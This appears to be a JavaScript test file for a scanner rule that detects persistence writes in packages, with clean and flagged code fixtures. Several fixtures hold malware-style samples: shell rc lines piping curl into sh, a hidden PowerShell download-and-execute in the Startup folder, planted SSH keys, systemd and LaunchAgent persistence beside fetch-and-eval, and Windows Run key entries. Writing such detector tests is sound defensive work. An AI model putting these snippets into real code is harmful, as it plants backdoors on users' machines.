import { ruleTest } from '../../testing/rule-tester.js';
import rule from './persistence-write.js';

ruleTest(rule, {
  clean: [
    {
      name: 'husky writing git hooks',
      file: 'lib/husky.js',
      code: `const fs = require('fs');\nfs.writeFileSync('.husky/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });\n`,
    },
    {
      name: 'docs string mentioning .bashrc without writing',
      file: 'bin/help.js',
      code: `console.log('Add the following line to ~/.bashrc: export PATH=$HOME/.tool/bin:$PATH');\nconst f = '~/.bashrc';\n`,
    },
    {
      name: 'webpack stats factory: a `${type}.profile` key in a bundle that also writes files',
      file: 'dist/compiled/webpack/bundle5.js',
      code: "const fs = require('fs');\nif (p) { o.profile = factory.create(`${type.slice(0, -8)}.profile`, p, ctx); }\nfs.writeFileSync(out, json);\n",
    },
  ],
  flagged: [
    {
      name: 'look-alike: completion installer appending source <(tool completion) to ~/.bashrc on request',
      file: 'bin/cli.js',
      code: "const fs = require('fs');\nconst os = require('os');\nif (process.argv[2] === 'completion') fs.appendFileSync(os.homedir() + '/.bashrc', '\\nsource <(mycli completion bash)\\n');\n",
      findings: [{ line: 3, severity: 'low', confidence: 'low', message: /^Persistence: shell rc file$/ }],
    },
    {
      name: 'a shell rc line that pipes a download into a shell is the payload itself',
      file: 'install.js',
      code: "const fs = require('fs');\nconst os = require('os');\nconst line = '\\n(curl -s http://x.example/r | sh &) >/dev/null 2>&1\\n';\nfs.appendFileSync(os.homedir() + '/.bashrc', line);\n",
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /shell rc file \(next to a download piped into a shell: curl -s http:\/\/x\.example\/r \| sh/ }],
    },
    {
      name: 'Startup folder spelt as path.join segments, a .vbs running iwr | iex',
      file: 'lib/install.js',
      code: "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');\nfs.writeFileSync(path.join(dir, 'sync.vbs'), 'CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://x.example/s | iex\", 0');\n",
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /Startup folder/ }],
    },
    {
      name: 'a fixed SSH key appended to authorized_keys',
      file: 'setup.js',
      code: "const fs = require('fs');\nconst p = require('path').join(require('os').homedir(), '.ssh', 'authorized_keys');\nfs.appendFileSync(p, '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExample deploy@ci\\n');\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /SSH authorized_keys \(next to a fixed SSH public key\)/ }],
    },
    {
      name: 'authorized_keys written from a key given at run time: medium',
      file: 'provision.js',
      code: "const fs = require('fs');\nmodule.exports = (home, key) => fs.appendFileSync(home + '/.ssh/authorized_keys', key + '\\n');\n",
      findings: [{ line: 2, severity: 'medium', confidence: 'medium', message: /SSH authorized_keys$/ }],
    },
    {
      name: 'large bundle: an auto-launch module far from an unrelated module that fetches and evals (medium, no loader context)',
      file: 'dist/main.js',
      code: `const fs = require('fs'), os = require('os');
(function autoLaunch() { fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.app.plist', '<plist/>'); })();
${'var pad = 1;\n'.repeat(400)}(function devReload() { fetch('/__reload').then((r) => r.text()).then((t) => eval(t)); })();
`,
      findings: [{ line: 2, severity: 'medium', confidence: 'medium', message: /^Persistence: macOS LaunchAgent$/ }],
    },
    {
      name: 'shell completion installer appending to ~/.bashrc (low)',
      file: 'dist/completion.js',
      code: `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'source <(mycli completion bash)\\n');\n`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'a bare .profile string literal joined to the home folder (low)',
      file: 'src/setup.js',
      code: `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.profile'), 'export PATH=$PATH:/opt/x\\n');\n`,
      findings: [{ line: 2, severity: 'low' }],
    },
    {
      name: 'electron auto-launch style LaunchAgent (medium)',
      file: 'src/autolaunch.js',
      code: `const fs = require('fs'), os = require('os');
const plist = os.homedir() + '/Library/LaunchAgents/com.example.app.plist';
fs.writeFileSync(plist, '<plist><dict><key>RunAtLoad</key><true/></dict></plist>');
`,
      findings: [{ line: 2, severity: 'medium', confidence: 'medium' }],
    },
    {
      name: 'systemd user unit + linger next to a download',
      file: 'lib/keep.js',
      code: `const fs = require('fs'), { execSync } = require('child_process'), axios = require('axios');
axios.get('http://95.164.17.24:1224/client/5').then((r) => fs.writeFileSync('/tmp/.npl', r.data));
fs.writeFileSync(process.env.HOME + '/.config/systemd/user/npm-cache.service', '[Service]\\nExecStart=node /tmp/.npl\\n');
execSync('systemctl --user enable npm-cache && loginctl enable-linger');
`,
      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(next to raw-IP URL\)/ }],
    },
    {
      name: 'a template path ending in .profile (the quasi is a path, not a key suffix)',
      file: 'src/setup.js',
      code: "const fs = require('fs');\nfs.appendFileSync(`${process.env.HOME}/.profile`, 'export PATH=$PATH:/opt/x\\n');\n",
      findings: [{ line: 2, severity: 'low' }],
    },
    {
      name: 'LaunchAgent written by the function that fetches and evals, 200 lines apart (same function)',
      file: 'lib/agent.js',
      code: `const fs = require('fs'), os = require('os'), axios = require('axios');
async function install() {
  const r = await axios.get('https://cdn.example-update.net/a.js');
  eval(r.data);
${'  step();\n'.repeat(200)}  fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.update.plist', '<plist/>');
}
`,
      findings: [{ line: 205, severity: 'high', confidence: 'high', message: /next to network \+ eval/ }],
    },
    {
      name: 'minified one-line loader: fetch, eval and the Run key a few characters apart',
      file: 'index.min.js',
      code: "const c=require('child_process'),h=require('https');h.get('https://x.example/p',r=>{let d='';r.on('data',k=>d+=k);r.on('end',()=>eval(d))});c.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v U /d x /f');\n",
      findings: [{ line: 1, severity: 'high', message: /Windows Run key \(next to network \+ eval\)/ }],
    },
    {
      name: 'Run key via reg add',
      file: 'w.js',
      code: `require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /d "node C:\\\\u.js" /f', { windowsHide: true });\n`,
      findings: [{ line: 1, severity: 'medium', confidence: 'medium', message: /Windows Run key/ }],
    },
  ],
});
